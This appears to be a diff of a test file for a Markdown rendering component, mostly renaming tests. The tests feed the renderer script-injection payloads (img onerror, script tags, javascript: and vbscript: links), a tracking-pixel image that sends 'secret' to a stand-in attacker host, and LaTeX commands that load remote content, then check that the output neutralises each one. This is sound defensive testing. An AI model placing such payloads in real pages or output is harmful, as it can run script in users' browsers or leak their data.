@@ -8,13 +8,13 @@ import { MarkdownView } from "./view";
 const html = (text: string, caret = false) =>
   renderToStaticMarkup(<MarkdownView text={text} caret={caret} Formulas={RenderedMath} />);
 
-it("keeps HTML as text, and removes the address of links that run code", () => {
+it("Markdown keeps HTML as text, and removes the address of links that run code", () => {
   const evil =
     "<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)";
   expect(html(evil)).not.toMatch(/<img|<script|href="[^"]/);
 });
 
-it("loads nothing from other servers", () => {
+it("Markdown loads nothing from other servers", () => {
   const remote = html(
     "![pixel](https://evil.example.com/a.gif?talk=secret)\n\n![x](//evil.example.com/b.gif)",
   );
@@ -22,23 +22,23 @@ it("loads nothing from other servers", () => {
   expect(remote).toContain("evil.example.com");
 });
 
-it("renders an image in a data URL", () => {
+it("Markdown renders an image in a data URL", () => {
   expect(html("![dot](data:image/png;base64,AAAA)")).toContain('src="data:image/png;base64,AAAA"');
 });
 
-it("opens links in a new tab without referrer, and footnotes on the page", () => {
+it("Markdown opens links in a new tab without referrer, and footnotes on the page", () => {
   expect(html("[a](https://example.com)")).toContain('target="_blank" rel="noopener noreferrer"');
   const note = html("One[^1].\n\n[^1]: Two.");
   expect(note).not.toContain("_blank");
   expect(note.match(/id="([^"]+fn-1)"/)?.[1]).toBe(note.match(/href="#([^"]+fn-1)"/)?.[1]);
 });
 
-it("starts headings below those of the page", () => {
+it("Markdown starts headings below those of the page", () => {
   expect(html("# A\n\n###### B")).toMatch(/<h3[^>]*>A<\/h3>\s*<h6[^>]*>B<\/h6>/);
   expect(html("## A\n\n### B")).toMatch(/<h3[^>]*>A<\/h3>\s*<h4[^>]*>B<\/h4>/);
 });
 
-it("supports tables, tasks and strikethrough of GitHub", () => {
+it("Markdown supports tables, tasks and strikethrough of GitHub", () => {
   expect(html("| a | b |\n|---|--:|\n| 1 | 2 |")).toMatch(/<table.*text-align:right/);
   expect(html("- [x] done")).toContain('type="checkbox"');
   expect(html("~~no~~ but about ~5 or ~6")).toContain("<del>no</del> but about ~5 or ~6");
@@ -50,7 +50,7 @@ it("lists, quotes and tables follow the direction of their text", () => {
   expect(markup.match(/<(?:ol|ul|blockquote|table) dir="auto"/g)).toHaveLength(4);
 });
 
-it("keeps the text of fenced code and names its language; renders inline code as a chip", () => {
+it("Markdown keeps the text of fenced code and names its language; renders inline code as a chip", () => {
   const fence = html('```ts\nconst a = "<b>";\n```');
   expect(fence).toContain("TypeScript");
   // If the highlighter is loaded already, colors split the text into elements.
@@ -58,27 +58,27 @@ it("keeps the text of fenced code and names its language; renders inline code as
   expect(html("a `b` c")).toMatch(/<code class="[^"]*bg-fill[^"]*">b<\/code>/);
 });
 
-it("puts the caret after the last word in any element", () => {
+it("Markdown puts the caret after the last word in any element", () => {
   expect(html("One two", true)).toMatch(/two<span class="caret"><\/span><\/p>/);
   expect(html("- One\n- Two\n  - Three", true)).toMatch(/Three<span class="caret"><\/span><\/li>/);
   expect(html("", true)).toContain('<span class="caret"></span>');
   expect(html("One two")).not.toContain("caret");
 });
 
-it("renders incomplete markup in its final form", () => {
+it("Markdown renders incomplete markup in its final form", () => {
   expect(html("This is **bo", true)).toContain('<strong class="font-strong">bo</strong>');
   expect(html("See [the pa", true)).toMatch(/See the pa<span/);
   expect(html("Under\n-", true)).not.toContain("<h");
 });
 
-it("renders a growing text like a complete one", () => {
+it("Markdown renders a growing text like a complete one", () => {
   const text = "# A\n\nOne **two**\n\n1. a\n2. b\n\n   more\n\n```js\nlet a;\n```\n\n| a |\n|---|\n| 1 |\n";
   const whole = renderToStaticMarkup(<ReactMarkdown remarkPlugins={[remarkGfm]}>{text}</ReactMarkdown>);
   const tags = (markup: string) => markup.match(/<(h\d|p|li|ol|strong|pre|td)\b/g)?.join(" ");
   expect(tags(html(text))?.replace("h3", "h1")).toBe(tags(whole));
 });
 
-it("renders formulas accessibly without loading anything", () => {
+it("Markdown renders formulas accessibly without loading anything", () => {
   const markup = html(
     "So $a^2$ for $5:\n\n$$ \\href{https://evil.example.com}{x} \\includegraphics{https://evil.example.com/a.png} $$",
   );
